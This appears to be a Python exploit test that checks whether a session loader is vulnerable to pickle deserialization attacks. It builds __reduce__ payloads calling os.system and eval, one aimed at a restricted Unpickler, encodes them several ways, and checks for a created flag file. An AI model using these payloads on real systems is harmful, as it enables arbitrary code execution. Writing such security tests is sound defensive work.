import base64
import os
import pickle

from _harness import load, run_exploits, scratch

session = load("session")
flag = os.path.join(scratch(), "pwned")


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {flag}",))


class EvalPayload:  # for an Unpickler that forbids os/posix/subprocess but allows builtins
    def __reduce__(self):
        return (eval, (f"open({flag!r}, 'w').write('x')",))


raw, raw_eval = pickle.dumps(Payload()), pickle.dumps(EvalPayload())
tokens = {"urlsafe-b64": base64.urlsafe_b64encode(raw).decode(), "b64": base64.b64encode(raw).decode(), "hex": raw.hex(), "eval-urlsafe-b64": base64.urlsafe_b64encode(raw_eval).decode()}


def attempt(token):
    def run():
        try:
            session.load_session(token)
        except Exception:
            pass
        return os.path.exists(flag)
    return run


def control():
    data = {"user": "ann", "cart": [1, {"sku": "x"}]}
    return session.load_session(session.dump_session(data)) == data


run_exploits([(k, attempt(t)) for k, t in tokens.items()], control)
